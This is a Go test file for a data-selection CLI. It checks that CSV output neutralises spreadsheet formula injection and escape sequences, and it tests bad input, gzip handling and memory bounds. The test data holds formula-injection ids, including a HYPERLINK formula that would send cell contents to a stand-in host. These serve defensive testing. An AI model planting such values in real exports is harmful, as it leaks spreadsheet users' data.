package cli

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/qvs-dev/qvs/internal/datasets"
	"github.com/qvs-dev/qvs/internal/search"
	"github.com/qvs-dev/qvs/internal/testutil"
	"github.com/qvs-dev/qvs/internal/vendi"
)

// TestSuggestIDsSpreadsheetSafe: ids a spreadsheet runs
// as formulas (=, +, -, @ first) came out of `as suggest --format csv`
// verbatim; they now get a leading ' (numbers such as -5 stay numbers),
// --raw-ids keeps them, and the output fed back as --observed names the
// same items, so a lab can work from the sheet. An id with spaces
// (" sp ", quoted in the pool) used to come out as "sp"; it round-trips.
func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
	dir := t.TempDir()
	odd := []string{`"=HYPERLINK(""http://x/?""&A1)"`, "+cmd", "-2+3", "@SUM(A1)", "-5", `" sp "`, "'quoted"}
	var b strings.Builder
	b.WriteString("id,x1,x2\n")
	for i := 0; i < 40; i++ {
		id := fmt.Sprintf("m%02d", i)
		if i%5 == 1 && i/5 < len(odd) {
			id = odd[i/5]
		}
		fmt.Fprintf(&b, "%s,%d,0\n", id, i)
	}
	pool := testutil.WriteFile(t, dir, "pool.csv", b.String())
	obs := testutil.WriteFile(t, dir, "obs.csv", "id,label\nm10,1\nm30,0\n")
	// as suggest --pool pool.csv --id-column id --feature-prefix x --k 2
	// --format csv --method random --batch 30 --quiet, then set's flags.
	suggest := func(set func(*ASSuggestOptions)) (int, string, string) {
		return exitOf(t, RunASSuggest, suggestOn(csvPool(pool, func(c *datasets.CSVConfig) {
			c.IDColumn, c.FeaturePrefix, c.K = "id", "x", 2
		}), func(o *ASSuggestOptions, _ *search.Protocol) {
			o.Format.Value, o.Method, o.Batch = FormatCSV, "random", 30
			set(o)
		}), beQuiet, func(e *Env) { e.CacheDir = filepath.Join(dir, "cache") })
	}
	code, out, stderr := suggest(func(o *ASSuggestOptions) { o.Observed = obs })
	if code != 0 {
		t.Fatal(stderr)
	}
	want := map[int]string{ // pool index -> id as written
		1: `'=HYPERLINK("http://x/?"&A1)`, 6: "'+cmd", 11: "'-2+3", 16: "'@SUM(A1)", 21: "-5", 26: " sp ", 31: "''quoted"}
	rows := testutil.SuggestRows(t, out)
	var fed strings.Builder
	fed.WriteString("id,label\nm10,1\nm30,0\n")
	seen := 0
	for _, r := range rows {
		i, _ := strconv.Atoi(r[1])
		if w, ok := want[i]; ok {
			seen++
			if r[2] != w {
				t.Errorf("item %d: id %q, want %q", i, r[2], w)
			}
		}
		fed.WriteString(csvField(r[2]) + ",0\n")
	}
	if seen < 4 {
		t.Fatalf("only %d of the odd ids were suggested; pick another seed", seen)
	}
	// Fed back, every id names its item: the next suggestion avoids them all.
	back := testutil.WriteFile(t, dir, "back.csv", fed.String())
	code, out2, stderr := suggest(func(o *ASSuggestOptions) { o.Observed, o.Batch = back, 8 })
	if code != 0 {
		t.Fatalf("output fed back as --observed: %s", stderr)
	}
	for _, r := range testutil.SuggestRows(t, out2) {
		if slices.ContainsFunc(rows, func(p []string) bool { return p[1] == r[1] }) {
			t.Errorf("item %s suggested again after it was observed", r[1])
		}
	}
	code, raw, _ := suggest(func(o *ASSuggestOptions) { o.Observed, o.RawIDs = obs, true })
	if code != 0 || !strings.Contains(raw, `"=HYPERLINK(""http://x/?""&A1)"`) && !strings.Contains(raw, ",+cmd,") {
		t.Errorf("--raw-ids: %s", raw)
	}
	// select writes its ids the same way.
	emb := testutil.WriteFile(t, dir, "emb.csv", "id,e1,e2\n=1+1,1,0\n-5,0,1\n@x,1,1\n")
	code, sel, stderr := exitOf(t, RunSelect, selectOpts(func(o *SelectOptions) {
		o.Items.Embeddings = emb
		o.Items.IDColumn = "id"
		o.K = 3
		o.Format.Value = FormatCSV
	}))
	if code != 0 || !strings.Contains(sel, ",'=1+1,") || !strings.Contains(sel, ",-5,") || !strings.Contains(sel, ",'@x,") {
		t.Errorf("select --format csv: exit %d %s\n%s", code, stderr, sel)
	}
	if _, sel, _ = exitOf(t, RunSelect, selectOpts(func(o *SelectOptions) {
		o.Items.Embeddings = emb
		o.Items.IDColumn = "id"
		o.K = 3
		o.Format.Value = FormatCSV
		o.RawIDs = true
	})); !strings.Contains(sel, ",=1+1,") {
		t.Errorf("select --raw-ids:\n%s", sel)
	}
}

// csvField quotes a CSV field when needed.
func csvField(s string) string {
	if strings.ContainsAny(s, ",\"\n\r") {
		return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
	}
	return s
}

// TestScoredTableQuotesUnprintableIDs: `as suggest` with scores prints its
// table through the same writer, so an id with an escape sequence is
// quoted there too.
func TestScoredTableQuotesUnprintableIDs(t *testing.T) {
	dir := t.TempDir()
	pool := testutil.WriteFile(t, dir, "pool.csv", "id,x1,x2\n\"red\x1b[31m\",0,0\nb,1,0\nc,0,1\nd,1,1\ne,2,2\n")
	obs := testutil.WriteFile(t, dir, "obs.csv", "id,value\nb,1\nc,2\n")
	code, out, stderr := exitOf(t, RunASSuggest, suggestOn(csvPool(pool, func(c *datasets.CSVConfig) {
		c.IDColumn = "id"
		c.K = 2
	}), func(o *ASSuggestOptions, _ *search.Protocol) {
		o.Observed = obs
		o.Batch = 3
	}), func(e *Env) {
		e.Quiet = true
		e.CacheDir = filepath.Join(dir, "cache")
	})
	if code != 0 || strings.ContainsAny(out, "\x1b") || !strings.Contains(out, `"red\x1b[31m"`) {
		t.Errorf("exit %d, %q, %s", code, out, stderr)
	}
}

// TestASSuggestBadInput: hostile input to `qvs as suggest`, found by the
// audit of the own-pool workflow (README "Use qvs on your own problem").
func TestASSuggestBadInput(t *testing.T) {
	dir := t.TempDir()
	w := func(name, content string) string { return testutil.WriteFile(t, dir, name, content) }
	pool := w("p.csv", testutil.LinePoolCSV(false))
	// as suggest --cache-dir DIR --observed observed --k 2 --pool FILE, the
	// pool's flags, --batch batch
	suggest := func(observed string, pool datasets.Config, batch int) func() (int, string, string) {
		return func() (int, string, string) {
			pool.CSV.K = 2
			return exitOf(t, RunASSuggest, suggestOn(pool, func(o *ASSuggestOptions, _ *search.Protocol) {
				o.Observed = observed
				if batch > 0 {
					o.Batch = batch
				}
			}), func(e *Env) { e.CacheDir = filepath.Join(dir, "cache") })
		}
	}
	idColumn := func(c *datasets.CSVConfig) { c.IDColumn = "id" }
	prefix := func(c *datasets.CSVConfig) { c.FeaturePrefix = "x" }
	obs := w("obs.csv", "id,label\nm10,1\n")
	testutil.CheckBadInput(t, callRun, []badInputCase{
		// A repeated id made an id in --observed mean two items; it
		// used to be accepted (the first row silently won).
		{Name: "pool repeats an id", In: suggest(obs, csvPool(w("dup.csv", "id,x1\nm10,1\nm11,2\nm10,3\nm12,4\n"), idColumn), 0),
			Code: 1, Want: `dup.csv: line 4, column "id": id "m10" repeats line 2`},
		{Name: "pool has an empty id", In: suggest(obs, csvPool(w("empty-id.csv", "id,x1\nm10,1\n,2\nm12,4\n"), idColumn), 0),
			Code: 1, Want: `empty-id.csv: line 3, column "id": empty id`},
		{Name: "observed unknown id", In: suggest(w("unk.csv", "id,label\nzz,1\n"), csvPool(pool, idColumn, prefix), 0),
			Code: 1, Want: `unk.csv: line 2, column 1 (id): id "zz" is not in pool p`},
		{Name: "observed NaN label", In: suggest(w("nan.csv", "index,label\n3,NaN\n"), csvPool(pool, prefix), 0),
			Code: 1, Want: `nan.csv: line 2, column 2 (label): label "NaN"`},
		{Name: "batch larger than the pool", In: suggest(obs, csvPool(pool, idColumn, prefix), 100),
			Code: 1, Want: "--batch 100: pool p has 40 items, 1 labelled and 0 pending: ask for at most 39"},
	})
}

// The commands that read a CSV pool or table read its .csv.gz as the CSV
// itself: the same stdout (as suggest's batch, score's table, graph's
// edges, a kernel from a table); a corrupt file fails with exit 1, empty
// stdout and an error that names the file and says gzip.
func TestGzipCSVInputs(t *testing.T) {
	dir := t.TempDir()
	body := testutil.LinePoolCSV(false)
	plain := testutil.WriteFile(t, dir, "pool.csv", body)
	gz := testutil.WriteGzip(t, dir, "pool.csv.gz", body)
	obs := testutil.WriteFile(t, dir, "obs.csv", "id,label\nm10,1\nm30,0\n")
	emb := "x,y\n1,0\n0,1\n1,1\n0.5,0.2\n"
	embPlain := testutil.WriteFile(t, dir, "emb.csv", emb)
	embGz := testutil.WriteGzip(t, dir, "emb.csv.gz", emb)
	cache := filepath.Join(dir, "cache")
	// as suggest --cache-dir DIR --observed obs.csv --batch 3 --format format
	// --id-column id --feature-prefix x --k 2 --pool pool
	suggest := func(pool, format string) (int, string, string) {
		return exitOf(t, RunASSuggest, suggestOn(csvPool(pool, func(c *datasets.CSVConfig) { c.IDColumn, c.FeaturePrefix, c.K = "id", "x", 2 }),
			func(o *ASSuggestOptions, _ *search.Protocol) { o.Observed, o.Batch, o.Format.Value = obs, 3, format }),
			func(e *Env) { e.CacheDir = cache })
	}
	cases := []struct {
		name, plain, gzip string
		run               func(file string) (code int, stdout, msg string)
	}{
		{"as suggest", plain, gz, func(pool string) (int, string, string) { return suggest(pool, FormatCSV) }},
		// score --embeddings FILE --q 1,inf --format csv
		{"score", embPlain, embGz, func(emb string) (int, string, string) {
			return exitOf(t, RunScore, scoreOpts(func(o *ScoreOptions) {
				o.Items.Embeddings, o.Orders, o.Format.Value = emb, vendi.Orders{1, vendi.OrderInf}, FormatCSV
			}))
		}},
	}
	for _, c := range cases {
		code, want, errs := c.run(c.plain)
		if code != 0 || want == "" {
			t.Fatalf("%s plain: exit %d: %s", c.name, code, errs)
		}
		code, got, errs := c.run(c.gzip)
		if code != 0 || got != want {
			t.Errorf("%s gzip: exit %d (%s)\n%s\nwant\n%s", c.name, code, errs, got, want)
		}
	}
	raw, _ := os.ReadFile(gz)
	bad := testutil.WriteFile(t, dir, "bad.csv.gz", string(raw[:len(raw)/2]))
	code, out, errs := suggest(bad, FormatTable)
	if code != 1 || out != "" || !strings.Contains(errs, bad) || !strings.Contains(errs, "gzip") {
		t.Errorf("truncated gzip: exit %d, stdout %q, stderr %q", code, out, errs)
	}
}

// TestSingleLineCSVBounded: a CSV of 40 MB on one line ("1,1,1,..."),
// given as kernel, embeddings, pool, observed labels and evaluations, is
// refused naming the file and line 1, with a message of a line, having
// allocated at most 5 x the file (1.9-3.8 x: 78-157 MiB; 100 MB took
// 4-5 GB of heap, 40-50 x, and a message quoted the 104 MB header). A
// 900 KB header is quoted by its first bytes only. The bound is on what
// the command allocates, garbage included, not on the peak heap, which
// moves with the GC's timing: the peak was once bounded by 3 x, and the
// 89 MiB seen for observed and evals left little room under load.
func TestSingleLineCSVBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("writes 41 MB")
	}
	dir := t.TempDir()
	long := filepath.Join(dir, "long.csv")
	if err := os.WriteFile(long, []byte(strings.Repeat("1,", 20<<20)+"1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	wide := testutil.WriteFile(t, dir, "wide.csv", strings.Repeat("h", 900_000)+",x\n1,2\n")
	pool := testutil.WriteFile(t, dir, "pool.csv", "id,x\na,1\nb,2\nc,3\n")
	obs := testutil.WriteFile(t, dir, "obs.csv", "index,label\n0,1\n")
	space := testutil.WriteFile(t, dir, "s.yaml", "parameters:\n  - {name: a, lower: 0, upper: 1}\n")
	// --cache-dir DIR as suggest --pool pool.csv --id-column id --k 1 --batch 1 --method random --observed observed
	suggest := func(observed string) func() (int, string, string) {
		return func() (int, string, string) {
			return exitOf(t, RunASSuggest, suggestOn(csvPool(pool, func(c *datasets.CSVConfig) { c.IDColumn, c.K = "id", 1 }),
				func(o *ASSuggestOptions, _ *search.Protocol) { o.Batch, o.Method, o.Observed = 1, "random", observed }),
				func(e *Env) { e.CacheDir = filepath.Join(dir, "cache") })
		}
	}
	for _, c := range []struct {
		name string
		run  func() (code int, stdout, msg string)
		want string
	}{
		{"kernel", func() (int, string, string) {
			return exitOf(t, RunScore, scoreOpts(func(o *ScoreOptions) { o.Items.Kernel = long }))
		}, long + ": line 1 is longer than 1048576 bytes"},
		{"embeddings", func() (int, string, string) {
			return exitOf(t, RunScore, scoreOpts(func(o *ScoreOptions) { o.Items.Embeddings = long }))
		}, long + ": line 1 is longer than 1048576 bytes"},
		// A valid --observed: it is checked before the pool is read.
		{"pool", func() (int, string, string) {
			return exitOf(t, RunASSuggest, suggestOn(csvPool(long), func(o *ASSuggestOptions, _ *search.Protocol) {
				o.Observed = obs
				o.Batch = 1
				o.Method = "random"
			}))
		}, long + ": line 1 is longer"},
		{"observed", suggest(long), long + ": line 1 is longer"},
		{"evals", func() (int, string, string) {
			return exitOf(t, RunBOSuggest, boSuggestOpts(func(o *BOSuggestOptions) {
				o.Continuous.Space = space
				o.Observed = long
			}))
		}, long + ": line 1 is longer"},
		{"wide header, observed", suggest(wide), `"hhhhhhhhhh`},
		{"wide header, embeddings column", func() (int, string, string) {
			return exitOf(t, RunScore, scoreOpts(func(o *ScoreOptions) {
				o.Items.Embeddings = wide
				o.Items.Emb.QualityColumn = "q"
				o.Items.EmbFlags = []string{"quality-column"}
			}))
		}, `"hhhhhhhhhh`},
	} {
		t.Run(c.name, func(t *testing.T) {
			var code int
			var out, errs string
			allocated := testutil.Allocated(func() { code, out, errs = c.run() })
			if code == 0 || out != "" || !strings.Contains(errs, c.want) || len(errs) > 600 {
				t.Errorf("exit %d, stdout %q, stderr (%d bytes) %.600q; want an error containing %q under 600 bytes", code, out, len(errs), errs, c.want)
			}
			if allocated > 5*41<<20 {
				t.Errorf("allocated %d MiB for a 41 MB file, want at most 5 x", allocated>>20)
			}
		})
	}
}
